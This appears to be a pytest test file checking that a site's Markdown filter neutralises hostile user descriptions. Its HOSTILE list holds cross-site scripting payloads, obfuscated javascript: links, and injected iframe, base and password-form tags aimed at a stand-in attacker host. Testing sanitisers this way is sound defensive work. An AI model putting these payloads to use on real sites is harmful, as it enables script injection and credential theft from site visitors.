"""The one place where what people typed becomes part of a page: a description, in Markdown, made safe."""

import re

import pytest

from roadshow.blueprints.filters import markdown
from tests.blueprints.world import coming
from tests.controls import safety_markdown
from tests.page import Page

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org" onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n</script>```",
    "<!-- --><script>alert(1)</script>",
    "<p id=inhoud class=errors>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ALLOWED = {"a", "blockquote", "br", "code", "em", "h3", "h4", "hr", "li", "ol", "p", "pre", "strong", "ul"}
TAG = re.compile(r"<\s*(/?)\s*([a-zA-Z!?][^\s>/]*)([^>]*)>")


def dangers(html: str) -> list[str]:
    """Tags and attributes that a description must not bring."""
    found = []
    for closing, tag, attributes in TAG.findall(html):
        if tag.lower() not in ALLOWED:
            found.append(tag)
        if not closing and tag.lower() != "a" and attributes.strip(" /"):
            found.append(f"{tag} {attributes}")
        if tag.lower() == "a" and not closing:
            given = dict(re.findall(r'(\w+)="([^"]*)"', attributes))
            href = given.pop("href", "https:")
            given.pop("title", "")
            if given != {"rel": "noopener nofollow ugc"} or not re.match(r"(https?|mailto):", href):
                found.append(f"a {attributes}")
    return found


@pytest.mark.parametrize("source", HOSTILE)
def test_a_description_brings_nothing_that_acts(source):
    assert dangers(markdown(source)) == []


def test_all_of_it_at_once_is_harmless_too():
    assert dangers(markdown("\n\n".join(HOSTILE))) == []
    assert dangers(markdown(" ".join(HOSTILE))) == []


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("Kom **aan tafel**.", "<p>Kom <strong>aan tafel</strong>.</p>"),
        ("- een\n- twee", "<ul>\n<li>een</li>\n<li>twee</li>\n</ul>"),
        ("# Groot\n\n### Klein", "<h3>Groot</h3>\n<h3>Klein</h3>"),
        (
            "[roc](https://example.org/a?b=1&c=2)",
            '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow ugc">roc</a></p>',
        ),
        (
            "<https://example.org>",
            '<p><a href="https://example.org" rel="noopener nofollow ugc">https://example.org</a></p>',
        ),
        (
            "[mail](mailto:ada@example.org)",
            '<p><a href="mailto:ada@example.org" rel="noopener nofollow ugc">mail</a></p>',
        ),
        ("Bakkerij <De Korenbloem> & co", "<p>Bakkerij &lt;De Korenbloem&gt; &amp; co</p>"),
        ("{{ 7*7 }} %(x)s ${7+7}", "<p>{{ 7*7 }} %(x)s ${7+7}</p>"),
    ],
)
def test_what_is_meant_comes_through(source, html):
    assert markdown(source).strip() == html


@pytest.mark.one_database
def test_a_page_with_every_hostile_description_is_a_page_of_ours(database):
    with database.transaction() as session:
        slug = coming(session, description="\n\n".join(HOSTILE)).slug

    page = Page(database.app).open(f"/roadshows/{slug}/")

    prose = next(one for one in page.tree.iter("div") if one.get("class") == "prose")
    assert {one.tag for one in prose.iter() if isinstance(one.tag, str)} <= ALLOWED | {"div"}
    assert [img for img in page.tree.iter("img") if not img.get("src", "").startswith("/regios/")] == []
    assert [one.attrib for one in page.tree.iter("script") if not one.get("src", "").startswith("/static/")] == []


def test_with_html_let_through_it_would_act():
    with safety_markdown.html_is_html():
        assert "script" in dangers(markdown(HOSTILE[0]))
